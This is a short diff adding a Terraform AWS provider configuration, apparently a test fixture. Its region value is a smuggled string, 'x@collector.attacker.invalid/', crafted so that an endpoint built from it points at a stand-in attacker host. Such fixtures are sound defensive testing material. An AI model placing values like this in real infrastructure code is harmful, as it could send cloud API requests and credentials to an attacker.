@@ -1,0 +1,7 @@
+provider "aws" {
+  region = local.region
+}
+
+locals {
+  region = "x@collector.attacker.invalid/"
+}
